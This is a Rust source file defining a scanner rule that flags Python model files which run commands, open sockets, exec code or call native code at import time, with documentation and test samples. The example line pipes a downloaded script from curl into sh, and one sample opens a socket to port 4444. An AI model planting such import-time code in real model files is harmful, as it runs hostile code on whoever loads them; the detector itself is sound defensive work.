use weighhouse_formats::python::{PythonFacts, Scope};

use super::acts::{at_import, report_calls};
use crate::rule::{Context, Rule};

crate::rule! {
    /// Python code does something to the machine as soon as it is imported.
    ///
    /// # What it detects
    ///
    /// Calls at module level, in class bodies, decorators and default values, and in functions that those call: starting programs,
    /// opening connections, deleting, loading native code, unpickling, changing what starts by itself. Aliases, constant
    /// strings, `getattr` and `__import__` are followed. What is ordinary in a script weighs less there than in code that a loader imports.
    ///
    /// # Why it matters
    ///
    /// `trust_remote_code=True` imports the file before anything of the model is used. Code that only defines a model does nothing on
    /// import.
    ///
    /// # Example
    ///
    /// `os.system('curl https://example.org/x | sh')` at the top of `modeling_x.py`.
    ///
    /// # What to do
    ///
    /// Do not load the model with remote code. Ask the maker why the file does this, and use a revision without it.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) ImportTimeAct {
        id: "WH-COD-001",
        slug: "import-time-act",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Python, Notebook],
        cwe: [94, 506],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for ImportTimeAct {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        report_calls(facts, cx, |scope| *scope == Scope::Import, at_import);
    }
}

crate::samples! {
    ImportTimeAct,
    bad: {
        "a command at module level" => [("modeling_x.py", b"import os\nos.system('id > /tmp/x')\n".to_vec())],
        "a command through aliases" => [("modeling_x.py", b"import subprocess as s\nrun = s.run\nrun(['id'])\n".to_vec())],
        "a command in a decorator" => [("modeling_x.py", b"import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef f(): pass\n".to_vec())],
        "a socket in a class body" => [("modeling_x.py", b"import socket\nclass M:\n    s = socket.socket()\n    s.connect(('192.0.2.1', 4444))\n".to_vec())],
        "a model that executes a text" => [("modeling_x.py", b"exec(compile('import os', 'x', 'exec'))\n".to_vec())],
        "a function at an address" => [("modeling_x.py", b"import ctypes\nrun = ctypes.CFUNCTYPE(ctypes.c_int)\nrun(address)()\n".to_vec())],
        "a function made of bytes" => [("modeling_x.py", b"import ctypes\nb = ctypes.create_string_buffer(b'\\x90')\nctypes.cast(b, ctypes.CFUNCTYPE(ctypes.c_int))()\n".to_vec())],
        "a function in a library" => [("modeling_x.py", b"import ctypes\nF = ctypes.CFUNCTYPE(ctypes.c_int)\nF.in_dll(library, 'run')()\n".to_vec())],
        "an evaluator that is looked up by name" => [("modeling_x.py", b"import builtins\nbuiltins.__dict__['ex' + 'ec']('1')\n".to_vec())],
    },
    ok: {
        "a type of callbacks, and one" => [("modeling_x.py", b"import ctypes\nCallback = ctypes.CFUNCTYPE(None, ctypes.c_int)\n@Callback\ndef told(x):\n    pass\n".to_vec())],
        "an ordinary model" => [("modeling_x.py", super::super::acts::ORDINARY.as_bytes().to_vec())],
    },
}
